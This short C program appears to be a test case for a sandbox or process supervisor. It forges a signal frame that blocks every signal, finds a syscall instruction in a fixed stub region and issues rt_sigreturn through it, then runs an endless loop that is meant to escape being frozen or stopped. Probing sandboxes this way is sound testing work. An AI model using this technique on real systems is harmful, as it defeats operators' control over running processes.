// Goes back out of the stub by a signal frame of its own that holds every signal back, and computes: it hears of no freeze.
#include <stdint.h>
#include <stdio.h>

static uint64_t frame[120];
static char stack[65536];

static void compute(void) {
    for (volatile uint64_t count = 0;; count++);
}

int main(void) {
    puts("it will not stop");
    fflush(stdout);
    frame[2] = 0x600000001000ull, frame[4] = 0x10000;
    frame[20] = (uint64_t)stack + sizeof stack - 72, frame[21] = (uint64_t)compute;
    frame[22] = 0x202, frame[23] = 0x33 | 0x2bull << 48;
    frame[37] = ~0ull;
    for (uint64_t stub = 0x700000001000ull; stub < 0x700000003000ull; stub++)
        if (*(volatile uint16_t *)stub == 0x050f)
            __asm__ volatile("mov %0, %%rsp\n\tjmp *%1" : : "r"(frame), "r"(stub), "a"(15ull) : "memory");
    return 1;
}
